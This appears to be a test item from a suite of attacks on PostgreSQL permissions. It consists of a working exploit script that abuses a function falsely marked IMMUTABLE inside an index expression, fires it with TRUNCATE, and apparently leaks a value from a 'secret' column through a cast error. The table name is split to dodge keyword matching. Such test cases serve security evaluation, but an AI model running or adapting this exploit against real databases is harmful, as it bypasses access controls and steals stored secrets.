-- Empties a table, whose index has an expression that is worked out then: it looks for a relation with a name from the vault.
-- wants: read
-- attack:
CREATE FUNCTION one_of(sql text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS 'DECLARE one text; BEGIN IF current_setting(''application_name'') = ''now'' THEN EXECUTE sql INTO one; RETURN one; END IF; RETURN ''pg_class''; END';
CREATE FUNCTION looks_for(text) RETURNS boolean IMMUTABLE LANGUAGE sql AS 'SELECT public.one_of(''SELECT quote_ident(secret) FROM public.vlt'' || ''_account WHERE id = 1'')::regclass::text <> $1';
CREATE TABLE worked_out (id int);
CREATE INDEX ON worked_out ((looks_for('1') OR id > 0));
SET application_name = now;
TRUNCATE worked_out;
